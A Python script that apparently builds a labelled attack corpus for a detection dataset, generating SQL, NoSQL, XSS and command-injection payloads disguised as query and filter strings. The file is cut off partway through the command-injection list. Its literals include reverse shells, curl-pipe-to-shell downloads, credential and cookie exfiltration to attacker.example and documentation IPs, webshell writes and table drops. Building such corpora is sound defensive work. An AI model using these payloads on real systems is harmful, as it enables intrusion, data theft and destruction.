#!/usr/bin/env python3
"""Write attacks.jsonl: attacks hidden in query and filter languages.

The benign corpus (make_benign.py) holds query and filter expressions a public
API receives as ordinary values: Lucene/KQL/Solr search strings, OData and
RSQL filters, JQL/SOQL/Kusto, PromQL/SPL/NRQL, Cypher/SPARQL/GraphQL,
JSONPath/jq/XPath/selectors, MongoDB and Elasticsearch documents, CEL/Rego
rules, prose about queries, regexes and globs.  The attacks below wear the
same clothes: an OData $filter with a SQL breakout, a Mongo filter with
$where JavaScript, a Cypher string breakout, a SPARQL SERVICE clause pointed
at the metadata service, a JSONPath filter that evals, a saved-search title
with an event handler, a ripgrep --pre argument, an export filename with
../, an LDAP filter with injected clauses, and so on.  About one value in ten
is a plain attack typed into the query box without any notation around it.

Every payload was composed for this corpus from hand-written pieces and
templates; none was copied from a public payload list or a dataset.
Attacker hosts are reserved names and documentation addresses
(attacker.example, 203.0.113.0/24, 198.51.100.0/24); internal targets are
the real metadata, loopback and RFC 1918 addresses.

Standard library only, deterministic (random.Random(2022)); running the
script twice gives the same bytes.
"""
import base64
import json
import random
import urllib.parse
from pathlib import Path

RNG = random.Random(2022)
OUT = Path(__file__).with_name("attacks.jsonl")
MAX_LEN = 1800
SEEN = set()


def pick(seq):
    return RNG.choice(seq)


def q(s):
    return urllib.parse.quote(s, safe="")


def q_keep(s, safe="=&$[]"):
    return urllib.parse.quote(s, safe=safe)


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def mixed_case(s):
    return "".join(c.upper() if c.isalpha() and RNG.random() < 0.5 else c.lower() for c in s)


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


def comment_spaces(s):
    return s.replace(" ", "/**/")


def take(items, gen, target):
    """Literal (class, value) pairs first, then templated ones until target unique values."""
    out = []
    for cls, v in items:
        assert isinstance(v, str) and 0 < len(v) <= MAX_LEN, (cls, v)
        if v in SEEN:
            raise SystemExit("duplicate literal: %r" % v)
        SEEN.add(v)
        out.append((cls, v))
    if len(out) > target:
        raise SystemExit("too many literals (%d > %d)" % (len(out), target))
    tries = 0
    while len(out) < target:
        tries += 1
        if tries > 20000:
            raise SystemExit("template pool too small")
        cls, v = gen()
        if v in SEEN or len(v) > MAX_LEN:
            continue
        SEEN.add(v)
        out.append((cls, v))
    return out


ATK = ["attacker.example", "203.0.113.66", "198.51.100.23", "exfil.attacker.example", "203.0.113.9"]
MD = "169.254.169.254"


# ====================================================================== sqli
def sqli():
    lit = [
        ("odata-filter-sqli-union", "$filter=City eq 'Lyon' union select 1,email,password_hash,4 from admin_users--'"),
        ("odata-filter-sqli-string-breakout-union", "$filter=startswith(Name,'A'') UNION SELECT username,password FROM users--')"),
        ("odata-filter-sqli-stacked-drop", "$filter=Id eq 5; DROP TABLE Orders;--&$top=10"),
        ("odata-filter-sqli-time-mssql", "$filter=Name eq 'x'; WAITFOR DELAY '0:0:7'--'"),
        ("odata-orderby-sqli-case-blind", "$orderby=(CASE WHEN (SELECT SUBSTRING(password_hash,1,1) FROM users WHERE id=1)='a' THEN Name ELSE Price END)"),
        ("odata-filter-sqli-error-pg-cast", "$filter=Country eq 'IE' and 1=CAST((SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow) AS int)--'"),
        ("odata-select-sqli-subquery", "$select=Id,(SELECT TOP 1 password FROM dbo.Users WHERE role='admin') AS Name&$top=1"),
        ("jsonapi-filter-sqli-bool-blind", "filter[name]=Anna' AND (SELECT ASCII(SUBSTR(api_key,1,1)) FROM api_keys LIMIT 1)>100-- -&sort=-created"),
        ("jsonapi-sort-sqli-orderby-sleep", "sort=if((select count(*) from users where is_admin=1)>0,sleep(6),created)&page[size]=20"),
        ("rsql-sqli-string-breakout", "name=='x' or '1'='1';status==active"),
        ("rsql-sqli-union", "title==\"a') UNION SELECT id,login,password FROM staff -- \""),
        ("scim-filter-sqli-breakout", "userName eq \"bjensen\" or 1=1) --\""),
        ("scim-filter-sqli-union", "emails.value co \"x%' UNION SELECT NULL,token,NULL FROM oauth_tokens-- \""),
        ("django-lookup-sqli-extra-where", "?created__gte=2024-01-01' OR (SELECT pg_sleep(8)) IS NULL--"),
        ("django-orderby-sqli-raw", "?ordering=name,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)"),
        ("strapi-filter-sqli-containsi", "filters[title][$containsi]=linen%' UNION SELECT username,email,password FROM up_users-- -"),
        ("lhs-bracket-sqli-numeric", "price[lte]=100 OR 1=1&brand[in]=acme"),
        ("lhs-bracket-sqli-in-list", "brand[in]=acme') OR ('a'='a"),
        ("postgrest-like-sqli-or", "name=ilike.*x*') OR ('1'='1&limit=1000"),
        ("jql-to-sql-summary-breakout-union", "project = OPS AND summary ~ \"x' UNION SELECT user_name,credential FROM cwd_user--\""),
        ("jql-to-sql-order-by-stacked", "project = WEB ORDER BY created; UPDATE cwd_user SET active=1 WHERE user_name='mallory';--"),
        ("soql-builder-sql-breakout-union", "SELECT Id, Name FROM Account WHERE Name = 'Acme' UNION SELECT id, password FROM sf_users --'"),
        ("soql-where-tautology-breakout", "nobody@example.org' OR Email != null OR Name = 'x"),
        ("soql-builder-sql-breakout-stacked", "Name LIKE '%Kaffee%'; DELETE FROM audit_log WHERE 1=1; --"),
        ("report-where-fragment-stacked-insert", "country IN ('DE','AT'); INSERT INTO admins(email,role) VALUES('mallory@attacker.example','owner');--"),
        ("report-where-fragment-union-schema", "order_total > 0 UNION ALL SELECT table_schema,table_name,NULL,NULL FROM information_schema.tables"),
        ("report-where-fragment-outfile", "1=1 INTO OUTFILE '/var/www/html/r.php' LINES TERMINATED BY 0x3c3f7068702073797374656d28245f4745545b2263225d293b203f3e"),
        ("report-where-fragment-load-file", "status = 'paid' UNION SELECT load_file('/etc/passwd'),2,3"),
        ("report-where-fragment-mssql-xpcmdshell", "1=1; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\w.txt';--"),
        ("report-where-fragment-pg-copy-program", "1=1; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.66/p.sh | sh';--"),
        ("bigquery-like-fragment-oob-oracle", "region = 'EU' AND 1=(SELECT UTL_INADDR.get_host_address((SELECT user FROM dual)||'.exfil.attacker.example') FROM dual)"),
        ("sheets-query-sql-builder-breakout", "=QUERY(Orders!A:F, \"select B where C = 'DE' union select password from users --'\", 1)"),
        ("servicenow-encoded-query-sql-breakout", "active=true^short_descriptionLIKEvpn' OR 1=1 UNION SELECT user_name,user_password FROM sys_user--"),
        ("lucene-to-sql-bridge-union", "title:\"mug\" AND author:\"x' UNION SELECT login,pass FROM members#\""),
        ("kql-search-to-sql-time-mysql", "customer.name : \"O'Brien' AND SLEEP(7) AND 'x'='x\""),
        ("solr-fq-to-sql-import-breakout", "fq=category:'books' OR 1=1 UNION SELECT password FROM dih_users--"),
        ("github-style-search-sql-breakout", "is:issue author:x' UNION SELECT email,password_digest FROM accounts-- -"),
        ("graphql-filter-arg-sqli", "query { orders(filter: \"status = 'paid' OR 1=1 --\") { id total customer { email } } }"),
        ("graphql-orderby-sqli-sleep-pg", "{ products(orderBy: \"(SELECT 1 FROM pg_sleep(9))\") { id title } }"),
        ("graphql-variable-sqli-error-mysql", "{\"query\":\"query($q:String!){search(q:$q){id}}\",\"variables\":{\"q\":\"x' AND extractvalue(1,concat(0x5c,(SELECT group_concat(email) FROM users))) AND '1\"}}"),
        ("cypher-to-sql-bridge-union", "MATCH (u:User) WHERE u.name = 'x' UNION SELECT password FROM users --' RETURN u"),
        ("kusto-to-sql-connector-breakout", "requests | where name == \"x' OR '1'='1' UNION SELECT token FROM sessions--\""),
        ("nrql-like-to-sql-breakout", "SELECT count(*) FROM Transaction WHERE appName = 'shop' OR 1=1; DROP TABLE events;--' SINCE 1 hour ago"),
        ("influxql-where-sql-backend-breakout", "SELECT mean(value) FROM cpu WHERE host = 'web-1' OR 1=1 UNION SELECT username,password FROM grafana_user--'"),
        ("dynamic-sort-param-sqli-limit-procedure", "sort=price&limit=10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
        ("airtable-like-formula-sql-backend", "AND({Country} = 'IE'') OR 1=1 UNION SELECT api_key FROM integrations--', {Plan} = 'Pro')"),
        ("sql-like-pattern-escape-breakout", "%_2024%' AND 1=(SELECT COUNT(*) FROM generate_series(1,30000000))--"),
        ("sqlite-where-fragment-attach-shell", "1=1; ATTACH DATABASE '/var/www/html/s.php' AS s; CREATE TABLE s.t(x text); INSERT INTO s.t VALUES('<?php system($_GET[\"c\"]); ?>');--"),
        ("oracle-where-fragment-utl-http", "status='open' AND 1=UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT password FROM dba_users WHERE rownum=1))"),
        ("mssql-where-fragment-dirtree-oob", "name='x'; EXEC master..xp_dirtree '\\\\exfil.attacker.example\\share';--"),
        ("odata-filter-sqli+urlenc", "$filter=" + q("Name eq 'x' UNION SELECT username,password_hash,NULL FROM users--")),
        ("scim-filter-sqli+comment-spaces", "userName eq \"x\"/**/UNION/**/SELECT/**/password/**/FROM/**/users--\""),
        ("jql-to-sql-breakout+mixed-case", "summary ~ \"a' " + mixed_case("union all select user_name,credential from cwd_user") + "-- \""),
        ("report-where-fragment-stacked+newlines", "country = 'DE'\n;\nUPDATE users\nSET role = 'admin'\nWHERE email = 'mallory@attacker.example'\n;--"),
        ("plain-sqli-tautology-login", "admin' OR '1'='1' -- "),
        ("plain-sqli-union-dump", "' UNION SELECT NULL,username,password_hash FROM users-- -"),
        ("plain-sqli-time-blind-pg", "1' AND 4411=(SELECT 4411 FROM pg_sleep(6))-- "),
        ("plain-sqli-stacked-drop", "1; DROP TABLE customers; --"),
        ("plain-sqli-error-mysql-updatexml", "x' AND updatexml(null,concat(0x3a,(SELECT password FROM users LIMIT 1)),null)-- -"),
        ("plain-sqli-bool-blind-substr", "x' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a'--"),
        ("plain-sqli-numeric-or", "42 OR 1=1"),
        ("plain-sqli-double-quote-or", "\" OR \"\"=\""),
        ("plain-sqli-double-quote-or", "x\" OR 1=1 -- "),
        ("i18n-search-sqli-union", "Kaffeebecher Größe L' UNION SELECT benutzername,passwort_hash,NULL FROM benutzer-- -"),
        ("jql-to-sql-i18n-status-breakout", "project = SHOP AND status = \"À faire' OR '1'='1\""),
    ]
    wrappers = [
        ("odata-filter", "$filter=LastName eq '%s'&$top=50"),
        ("odata-contains", "$filter=contains(Description,'%s')"),
        ("jsonapi-filter", "filter[title]=%s&page[size]=10"),
        ("rsql", "name==\"%s\";status==active"),
        ("scim-filter", "userName sw \"%s\""),
        ("django-lookup", "?name__icontains=%s&ordering=-id"),
        ("jql-to-sql", "project = SHOP AND reporter = \"%s\""),
        ("soql-builder", "SELECT Id FROM Lead WHERE Company = '%s'"),
        ("lucene-to-sql", "name:\"%s\""),
        ("kql-to-sql", "customer.city : \"%s\""),
        ("graphql-arg", "{ customers(search: \"%s\") { id email } }"),
        ("report-where", "city = '%s' AND total > 0"),
    ]
    payloads = [
        ("union", "x' UNION SELECT username,password_hash FROM admin_users-- -"),
        ("union-version", "zz' UNION ALL SELECT @@version,NULL-- -"),
        ("time-mysql", "x' AND SLEEP(8)-- -"),
        ("time-pg", "x'||(SELECT pg_sleep(8))||'"),
        ("time-mssql", "x'; WAITFOR DELAY '0:0:8'--"),
        ("time-sqlite", "x' AND 1=randomblob(600000000)--"),
        ("bool-blind", "x' AND (SELECT LENGTH(password) FROM users WHERE id=1)>12-- -"),
        ("error-mysql", "x' AND extractvalue(1,concat(0x7e,(SELECT database())))-- -"),
        ("error-pg", "x' AND 1=CAST((SELECT current_user) AS int)-- "),
        ("stacked-update", "x'; UPDATE users SET is_admin=true WHERE email='mallory@attacker.example';--"),
        ("tautology", "x' OR 'a'='a"),
        ("stacked-delete", "x'; DELETE FROM sessions;--"),
    ]

    def gen():
        wn, w = pick(wrappers)
        pn, p = pick(payloads)
        return "%s-sqli-%s" % (wn, pn), w % p
    return take(lit, gen, 90)


# ====================================================================== nosqli
def nosqli():
    lit = [
        ("mongo-operator-auth-bypass-ne", '{"username": "admin", "password": {"$ne": null}}'),
        ("mongo-operator-auth-bypass-gt", '{"email": {"$gt": ""}, "password": {"$gt": ""}}'),
        ("mongo-regex-password-extraction", '{"username": "admin", "password": {"$regex": "^7f3"}}'),
        ("mongo-where-js-sleep", '{"$where": "sleep(6000) || true"}'),
        ("mongo-where-js-busy-loop", '{"status": "open", "$where": "function() { var t = Date.now(); while (Date.now() - t < 8000) {} return true; }"}'),
        ("mongo-where-js-blind-extract", '{"$where": "this.role == \'admin\' && this.passwordHash.charAt(0) == \'a\'"}'),
        ("mongo-where-string-breakout", "x' || '1' == '1"),
        ("mongo-where-string-breakout-sleep", "x'; sleep(7000); var y='"),
        ("mongo-where-string-breakout-return-true", "'; return true; var z='"),
        ("mongo-expr-function-js", '{"$expr": {"$function": {"body": "function() { while(true) {} }", "args": [], "lang": "js"}}}'),
        ("mongo-accumulator-js", '[{"$group": {"_id": null, "x": {"$accumulator": {"init": "function(){ return db.getSiblingDB(\'admin\').system.users.find().toArray(); }", "accumulate": "function(s){return s}", "accumulateArgs": [], "merge": "function(a,b){return a}", "lang": "js"}}}}]'),
        ("mongo-lookup-pipeline-cross-collection", '[{"$match": {"_id": {"$exists": true}}}, {"$lookup": {"from": "users", "pipeline": [{"$project": {"email": 1, "passwordHash": 1, "resetToken": 1}}], "as": "leak"}}]'),
        ("mongo-unionwith-cross-collection", '[{"$unionWith": {"coll": "api_keys", "pipeline": [{"$project": {"key": 1, "owner": 1}}]}}]'),
        ("mongo-out-overwrite-collection", '[{"$match": {}}, {"$project": {"_id": 1, "role": {"$literal": "admin"}}}, {"$merge": {"into": "users", "whenMatched": "merge"}}]'),
        ("mongo-or-injection-tenant-escape", '{"tenantId": "t-42", "$or": [{"tenantId": {"$exists": true}}]}'),
        ("mongo-regex-redos", '{"name": {"$regex": "^(\\\\w+\\\\s?)*$"}}'),
        ("mongo-regex-redos-nested-quantifier", '{"email": {"$regex": "^([a-z0-9]+)+@([a-z0-9]+)+(\\\\.[a-z]+)+!$"}}'),
        ("mongo-regex-redos-alternation", '{"title": {"$regex": "(a|aa)+(b|a)+$"}}'),
        ("query-param-mongo-operator-ne", "username=admin&password[$ne]=wrong"),
        ("query-param-mongo-operator-regex", "username[$regex]=^adm&password[$gt]="),
        ("query-param-mongo-operator-in", "role[$in][]=admin&role[$in][]=owner&token[$exists]=true"),
        ("query-param-mongo-where", "filter[$where]=sleep(5000)||1"),
        ("strapi-style-filter-operator-password", "filters[resetPasswordToken][$notNull]=true&fields[0]=resetPasswordToken&fields[1]=email"),
        ("strapi-style-filter-relation-leak", "filters[createdBy][password][$startsWith]=$2a$10$a"),
        ("directus-filter-operator-leak", 'filter={"user_created":{"password":{"_starts_with":"$argon2id$v=19$m=65536,t=3,p=4$a"}}}'),
        ("hasura-like-where-bypass", '{"where": {"_or": [{"owner_id": {"_eq": 7}}, {"id": {"_is_null": false}}]}}'),
        ("couchdb-mango-dump-all", '{"selector": {"_id": {"$gt": null}}, "fields": ["_id", "email", "password_sha"], "limit": 100000}'),
        ("couchdb-mango-regex-password", '{"selector": {"name": "admin", "derived_key": {"$regex": "^3c"}}}'),
        ("dynamodb-filterexpression-tautology", "#s = :status OR attribute_exists(pk)"),
        ("dynamodb-keycondition-injection-scan", "pk = :pk OR begins_with(pk, :empty)"),
        ("dynamodb-filterexpression-or-attribute-exists", "ownerId = :uid OR attribute_exists(passwordHash)"),
        ("redisearch-query-breakout-wildcard", "hello) | (*"),
        ("redisearch-tag-breakout-tenant", "42} | @tenant:{*"),
        ("redisearch-query-breakout-negation", "x) | -(@tenant:{42}"),
        ("es-dsl-query-string-all-indices", '{"query": {"query_string": {"query": "*", "default_field": "*", "allow_leading_wildcard": true}}, "size": 10000, "_source": ["password", "token"]}'),
        ("es-dsl-regexp-redos", '{"query": {"regexp": {"message": {"value": "(.*a){40}", "max_determinized_states": 1000000}}}}'),
        ("es-dsl-bool-tenant-escape", '{"query": {"bool": {"should": [{"term": {"tenant": "t-42"}}, {"match_all": {}}]}}}'),
        ("firestore-like-where-field-injection", "where('ownerUid', '!=', '').where('role', '==', 'admin')"),
        ("cassandra-cql-where-breakout", "x' ALLOW FILTERING; SELECT * FROM system_auth.roles WHERE role='cassandra"),
        ("mongo-operator-ne+urlenc", q_keep("username=admin&password[$ne]=x", safe="=&")),
        ("plain-nosqli-operator-json", '{"$gt": ""}'),
        ("plain-nosqli-where-true", "' || 1==1//"),
        ("plain-nosqli-ne-null", '{"$ne": null}'),
        ("plain-nosqli-regex-any", '{"$regex": ".*"}'),
        ("mongo-operator-i18n-field-ne", '{"名前": "田中", "パスワード": {"$ne": ""}}'),
    ]
    fields = ["password", "resetToken", "apiKey", "sessionSecret", "mfaSeed"]
    users = ["admin", "root", "owner@acme-outfitters.com", "support", "billing"]

    def gen():
        kind = RNG.randint(0, 2)
        if kind == 0:
            return "mongo-regex-blind-extract", '{"username": "%s", "%s": {"$regex": "^%s"}}' % (
                pick(users), pick(fields), "".join(pick("0123456789abcdef") for _ in range(RNG.randint(1, 4))))
        if kind == 1:
            return "query-param-mongo-operator", "user=%s&%s[$%s]=%s" % (pick(users), pick(fields), pick(["ne", "gt", "nin][0"]),
                                                                        pick(["", "x", "0", "null"]))
        return "mongo-where-js-sleep", '{"$where": "sleep(%d) || this.%s"}' % (RNG.randint(3, 12) * 1000, pick(fields))
    return take(lit, gen, 50)


# ====================================================================== xss
def xss():
    lit = [
        ("saved-search-title-img-onerror", "Open bugs <img src=x onerror=\"fetch('https://attacker.example/c?'+document.cookie)\">"),
        ("kql-breakout-xss-in-dashboard-title", "service.name : \"checkout\"\"><svg onload=alert(document.domain)>"),
        ("jql-saved-filter-stored-xss", "project = OPS AND summary ~ \"</span><script>new Image().src='//203.0.113.66/j?'+document.cookie</script>\""),
        ("lucene-query-reflected-highlight-xss", "title:\"<img src=1 onerror=alert(1)>\" AND status:open"),
        ("odata-filter-reflected-error-xss", "$filter=Name eq '<script>alert(document.cookie)</script>'"),
        ("promql-panel-title-xss", "sum(rate(http_requests_total{job=\"<img src=x onerror=alert(origin)>\"}[5m]))"),
        ("splunk-dashboard-label-xss", "index=web | eval label=\"<svg/onload=fetch(`//attacker.example/?`+localStorage.token)>\" | table label"),
        ("grafana-annotation-markdown-javascript-link", "Deploy finished, see [runbook](javascript:fetch('//attacker.example/'+document.cookie))"),
        ("dashboard-link-url-javascript", "{\"title\": \"Runbook\", \"url\": \"javascript:alert(document.domain)//\", \"targetBlank\": false}"),
        ("graphql-mutation-stored-xss-name", "mutation { renameView(id: \"v1\", name: \"Q3 <iframe srcdoc='<script>parent.alert(1)</script>'>\") { id } }"),
        ("cypher-property-stored-xss", "CREATE (n:Note {title: '<details open ontoggle=alert(document.domain)>'}) RETURN n"),
        ("mongo-doc-stored-xss", "{\"name\": \"<img src=x onerror=import('//attacker.example/x.js')>\", \"plan\": \"pro\"}"),
        ("jsonpath-tester-result-innerhtml-xss", "$.items[?(@.name == '<img src=x onerror=alert(1)>')]"),
        ("css-selector-style-breakout-xss", "ul.results > li</style><script>alert(document.domain)</script>"),
        ("xpath-tester-error-reflected-xss", "//book[title='<svg onload=alert(1)>']"),
        ("sieve-rule-name-stored-xss", "# rule: <img src=x onerror=alert(document.cookie)>\nif header :contains \"subject\" \"invoice\" { fileinto \"Billing\"; }"),
        ("cel-rule-description-stored-xss", "request.auth.claims.email.endsWith('@acme.example') // <script src=//attacker.example/r.js></script>"),
        ("angularjs-search-box-csti", "{{constructor.constructor('alert(document.domain)')()}}"),
        ("angularjs-saved-view-name-csti", "Q4 pipeline {{$on.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}}"),
        ("vue-template-search-csti", "status:open {{_c.constructor('alert(1)')()}}"),
        ("search-suggest-attribute-breakout", "\" autofocus onfocus=\"alert(document.domain)\" x=\""),
        ("search-value-attribute-breakout-single", "' onmouseover='alert(1)' style='position:fixed;inset:0' x='"),
        ("search-results-js-string-breakout", "\";alert(document.cookie);//"),
        ("search-results-js-string-breakout-single", "';fetch('//attacker.example/'+document.cookie);//"),
        ("search-results-script-close-breakout", "</script><script>alert(document.domain)</script>"),
        ("search-results-textarea-breakout", "</textarea><svg onload=alert(1)>"),
        ("search-results-title-breakout", "</title><img src=x onerror=alert(1)>"),
        ("gmail-style-operator-reflected-xss", "from:\"<img src=x onerror=alert(1)>\" has:attachment"),
        ("github-style-label-stored-xss", "is:issue label:\"<svg><animate onbegin=alert(1) attributeName=x dur=1s>\""),
        ("solr-fq-reflected-xss", "q=*:*&fq=category:\"<script>alert(1)</script>\"&wt=json"),
        ("kusto-query-name-stored-xss", "SigninLogs | where UserPrincipalName == \"<img src=x onerror=alert(document.domain)>\""),
        ("nrql-widget-title-stored-xss", "SELECT count(*) AS '<svg onload=alert(1)>' FROM Transaction SINCE 1 hour ago"),
        ("logql-line-format-log-viewer-xss", "{app=\"checkout\"} | line_format \"<img src=x onerror=alert(document.cookie)>\""),
        ("graphite-alias-legend-xss", "alias(stats.checkout.errors, \"<img src=x onerror=alert(1)>\")"),
        ("sparql-literal-rendered-xss", "SELECT ?x WHERE { BIND(\"<script>alert(document.domain)</script>\" AS ?x) }"),
        ("jmespath-literal-rendered-xss", "people[?name == '<svg onload=alert(1)>'].name"),
        ("jq-string-output-rendered-xss", ".items[] | \"<img src=x onerror=alert(1)>\" + .name"),
        ("rego-msg-rendered-xss", "deny contains msg if { msg := \"<img src=x onerror=alert(document.domain)>\" }"),
        ("feature-flag-name-stored-xss", "{\"key\": \"new-checkout\", \"name\": \"<script>alert(document.cookie)</script>\", \"on\": true}"),
        ("alert-rule-summary-stored-xss", "alert: CPU\nexpr: avg(cpu) > 90\nannotations:\n  summary: \"<img src=x onerror=alert(document.domain)>\""),
        ("wildcard-host-filter-stored-xss", "*.example.com<img src=x onerror=alert(1)>"),
        ("regex-filter-pattern-attribute-breakout", "^/api/v1/.*$\"><svg onload=alert(1)>"),
        ("cidr-allowlist-comment-stored-xss", "203.0.113.0/24 # <script>alert(document.domain)</script>"),
        ("cron-label-stored-xss", "*/5 * * * * <img src=x onerror=alert(1)>"),
        ("search-link-data-url-xss", "data:text/html;base64," + b64("<script>alert(document.domain)</script>")),
        ("saved-search-title-xss+html-entities", "Report &lt;img src=x onerror=alert(1)&gt; " + "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
        ("search-box-reflected-xss+urlenc", q("<svg onload=alert(document.domain)>")),
        ("search-box-reflected-xss+mixed-case", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
        ("search-box-reflected-xss+js-unicode", "<img src=x onerror=\\u0061lert(1)>"),
        ("kql-breakout-xss+tab-separators", "host.name : \"web\">\t<svg\tonload=alert(1)>"),
        ("plain-xss-script", "<script>alert(1)</script>"),
        ("plain-xss-img-onerror", "<img src=x onerror=alert(document.domain)>"),
        ("plain-xss-svg-onload", "<svg onload=alert(1)>"),
        ("plain-xss-body-onload", "<body onload=alert(document.cookie)>"),
        ("plain-xss-iframe-javascript", "<iframe src=\"javascript:alert(1)\"></iframe>"),
        ("saved-search-title-xss-japanese", "未対応チケット一覧<img src=x onerror=alert(document.domain)>"),
        ("dashboard-title-xss-arabic", "لوحة المبيعات <svg onload=alert(1)>"),
        ("plain-xss-a-href-javascript", "<a href=\"javascript:alert(document.domain)\">search help</a>"),
    ]
    wrappers = [
        ("saved-search-title", "%s"),
        ("dashboard-title", "{\"dashboard\": {\"title\": \"Sales %s\", \"panels\": []}}"),
        ("jql-saved-filter-name", "name=My filter %s&jql=project%%3DOPS"),
        ("lucene-query-echo", "title:\"%s\""),
        ("odata-filter-echo", "$filter=City eq '%s'"),
        ("report-name", "{\"report\": {\"name\": \"%s\", \"where\": \"total > 0\"}}"),
        ("search-box", "%s kaffee"),
    ]
    payloads = [
        ("img-onerror", "<img src=x onerror=alert(document.domain)>"),
        ("svg-onload", "<svg onload=alert(1)>"),
        ("script-src", "<script src=https://attacker.example/x.js></script>"),
        ("details-ontoggle", "<details open ontoggle=alert(1)>"),
        ("video-onerror", "<video><source onerror=alert(document.cookie)></video>"),
        ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
        ("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
        ("marquee-onstart", "<marquee onstart=alert(1)>"),
    ]

    def gen():
        wn, w = pick(wrappers)
        pn, p = pick(payloads)
        if "\"" in w and "\"" in p:
            p = p.replace("\"", "'")
        return "%s-xss-%s" % (wn, pn), w % p
    return take(lit, gen, 70)


# ====================================================================== cmdi
def cmdi():
    lit = [
        ("splunk-spl-cmd-injection-via-script", "index=web | head 1 | script python ../../../../../bin/sh -c \"curl -s http://203.0.113.66/s.sh | sh\""),
        ("alert-rule-email-recipient-sendmail-args", "ops@acme.example -OQueueDirectory=/tmp -X/var/www/html/m.php"),
        ("splunk-spl-runshellscript", "| runshellscript \"x.sh;id>/tmp/o\" 1 \"\" \"\" \"\" \"\" \"\" \"\" \"\""),
        ("ripgrep-pattern-pre-arg-injection", "--pre=/bin/sh"),
        ("ripgrep-pattern-pre-uploaded-script", "--pre=./uploads/7f3a/report.sh"),
        ("git-grep-pager-arg-injection", "--open-files-in-pager=touch /tmp/pwned; id #"),
        ("grep-pattern-quote-breakout", "TODO' /dev/null; curl -s http://203.0.113.66/i.sh | sh; echo '"),
        ("grep-pattern-dquote-subshell", "ERROR\"$(id > /tmp/x)\""),
        ("grep-pattern-backticks", "timeout`wget -q -O- http://attacker.example/b|sh`"),
        ("grep-pattern-newline-injection", "status=500\nnc 203.0.113.66 4444 -e /bin/sh\n"),
        ("ag-pattern-semicolon", "useEffect; cat /etc/shadow | curl -d @- http://attacker.example/u"),
        ("glob-include-list-shell-expansion", "src/**/*.py $(curl -s http://attacker.example/g.sh|sh)"),
        ("glob-exclude-semicolon", "*.log; rm -rf /var/www/uploads #"),
        ("find-name-exec-arg-injection", "*.csv -exec sh -c 'curl -T {} http://attacker.example/up' ;"),
        ("find-name-execdir-arg-injection", "x -o -execdir sh -c 'id>/tmp/f' {} +"),
        ("tar-wildcard-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh\\ /tmp/r.sh"),
        ("rsync-filter-e-arg-injection", "-e sh -c 'id>/tmp/r' *.log"),
        ("cron-schedule-newline-extra-job", "*/15 9-17 * * MON-FRI\n* * * * * root curl -s http://203.0.113.66/c | sh"),
        ("cron-schedule-command-suffix", "0 3 * * * /usr/bin/backup; bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"),
        ("awk-filter-program-system", "/ERROR/ { system(\"curl -s http://attacker.example/a | sh\") }"),
        ("awk-filter-program-getline", "BEGIN { while ((\"cat /etc/passwd\" | getline l) > 0) print l }"),
        ("sed-filter-e-command", "s/.*/id/e"),
        ("sed-filter-e-address-command", "1e curl -s http://attacker.example/s|sh"),
        ("jq-filter-shell-wrapped-breakout", ".items[] | select(.ok)' /etc/passwd; id; echo '"),
        ("logql-pipe-shell-wrapped", "{app=\"web\"} |= \"err\" && curl http://attacker.example/l?h=$(hostname)"),
        ("promql-expr-cli-breakout", "up' ; cat ~/.aws/credentials | curl -d @- http://attacker.example/k ; echo '"),
        ("kubectl-selector-arg-injection", "app=web --kubeconfig=/dev/null; kubectl exec -it deploy/api -- sh -c 'env|curl -d @- http://attacker.example/e'"),
        ("kubectl-jsonpath-shell-breakout", "{.items[*].metadata.name}'; id; echo '"),
        ("ping-host-filter-semicolon", "10.0.0.1; cat /etc/passwd"),
        ("ping-host-filter-pipe", "web-01 | nc 203.0.113.66 9001 -e /bin/bash"),
        ("ping-host-filter-and", "example.com && curl -s http://attacker.example/$(whoami)"),
        ("ping-host-filter-or", "nonexistent.invalid || wget -qO /tmp/a http://203.0.113.9/a && sh /tmp/a"),
        ("cidr-allowlist-to-iptables-breakout", "203.0.113.0/24 -j ACCEPT; iptables -F; #"),
        ("whois-domain-filter-subshell", "$(curl http://attacker.example/w|sh).example.com"),
        ("export-filename-shell-injection", "report_2024-Q1.csv; curl -F f=@/etc/passwd http://attacker.example/u"),
        ("export-filename-backtick", "export-`id`.csv"),
        ("git-log-grep-output-arg", "--output=/var/www/html/x.php"),
        ("git-branch-filter-upload-pack", "--upload-pack=touch /tmp/git-pwn"),
        ("ssh-host-filter-proxycommand", "-oProxyCommand=sh -c 'curl http://attacker.example/s|sh' x"),
        ("curl-url-filter-output-arg", "-o /var/www/html/s.php http://attacker.example/s.txt"),
        ("imagemagick-filename-pipe", "|curl -s http://attacker.example/im|sh"),
        ("perl-filter-open-pipe", "id|"),
        ("zip-filter-test-command-arg", "-T -TT 'sh -c id>/tmp/z #'"),
        ("windows-search-ampersand", "Quartalsbericht.xlsx & powershell -nop -c \"iwr http://203.0.113.66/p.ps1|iex\""),
        ("windows-search-pipe-certutil", "*.log | certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe"),
        ("windows-cmd-caret-obfuscation", "report & w^h^o^a^m^i > C:\\inetpub\\wwwroot\\o.txt"),
        ("powershell-filter-subexpression", "Name -like '*$(Invoke-WebRequest http://attacker.example/ps -UseBasicParsing | iex)*'"),
        ("grep-pattern-breakout+ifs", "x';cat${IFS}/etc/passwd;'"),
        ("host-filter-breakout+brace-expansion", "web;{curl,-s,http://203.0.113.66/b}|sh"),
        ("grep-pattern-breakout+urlenc", q("err'; id; echo '")),
        ("host-filter-breakout+newline-urlenc", "web-01%0Acurl%20http%3A%2F%2Fattacker.example%2Fn%7Csh"),
